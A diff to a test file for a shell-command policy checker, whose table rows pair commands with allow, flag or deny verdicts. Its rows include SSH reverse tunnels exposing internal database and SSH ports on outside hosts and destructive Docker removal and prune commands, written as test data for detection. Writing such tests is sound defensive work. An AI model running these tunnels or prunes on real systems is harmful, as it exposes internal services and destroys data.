@@ -47,7 +47,8 @@ test('remote SSH forwards publish a port of this machine on another host', async
     [shell('autossh -M 0 -f -N -R 15432:db.internal:5432 user@vps.freehost.example'), 'flag', 'exfiltration.reverse_tunnel'],
     [shell('autossh -M 20000 -R 2200:localhost:22 relay@203.0.113.9'), 'deny', 'exfiltration.reverse_tunnel'],
     [shell('ssh -R 1080 u@vps.example.net'), 'flag', 'exfiltration.reverse_tunnel'],
-    [shell('ssh -R 9000:localhost:9000 dev@devbox.example.com'), 'flag', 'exfiltration.reverse_tunnel'],
+    [shell('ssh -R 0.0.0.0:9000:localhost:9000 dev@devbox.example.com'), 'flag', 'exfiltration.reverse_tunnel'],
+    [shell('ssh -R 6443:10.0.4.12:6443 u@vps.example.net'), 'flag', 'exfiltration.reverse_tunnel'],
     [shell('ssh -R 80:localhost:3000 localhost.run'), 'flag', 'exfiltration.reverse_tunnel'],
     // Look-alikes: local forwards, local SOCKS, plain logins and remote commands.
     [shell('ssh -N -L 5432:db.internal:5432 bastion.acme-corp.io'), 'allow'],
@@ -55,6 +56,8 @@ test('remote SSH forwards publish a port of this machine on another host', async
     [shell('autossh -M 0 -L 3306:db:3306 bastion.acme-corp.io'), 'allow'],
     [shell("ssh -i ~/.ssh/deploy -p 2222 deploy@staging.acme-corp.io 'systemctl status app'"), 'allow'],
     [shell('ssh -t staging htop'), 'allow'],
+    [shell('ssh -R 9000:localhost:9000 build@ci.example.com'), 'allow'],
+    [shell('ssh -R 52698:localhost:52698 dev@devbox.example.com'), 'allow'],
     [shell('ssh -R 2222:localhost:22 localhost'), 'allow'],
   ];
   await runTable(t, rows);
@@ -149,7 +152,7 @@ test('forced container removal and system prunes warn; plain removal and listing
     [shell('nerdctl rm -f cache'), 'flag', 'cloud_destructive.container_force_remove'],
     [shell('docker ps -aq | xargs docker rm -f'), 'flag', 'cloud_destructive.container_force_remove'],
     [shell('docker system prune -af'), 'flag', 'cloud_destructive.system_prune'],
-    [shell('docker system prune -f'), 'flag', 'cloud_destructive.system_prune'],
+    [shell('docker system prune --all --force'), 'flag', 'cloud_destructive.system_prune'],
     [shell('docker system prune -af --volumes'), 'flag'],
     [shell('docker rm test-runner-1'), 'allow'],
     [shell('docker rm $(docker ps -aq -f status=exited)'), 'allow'],
@@ -159,6 +162,7 @@ test('forced container removal and system prunes warn; plain removal and listing
     [shell('docker image prune -f'), 'allow'],
     [shell('docker builder prune -f --filter until=72h'), 'allow'],
     [shell('docker system df'), 'allow'],
+    [shell('docker system prune -f'), 'allow'],
   ];
   await runTable(t, rows);
 });
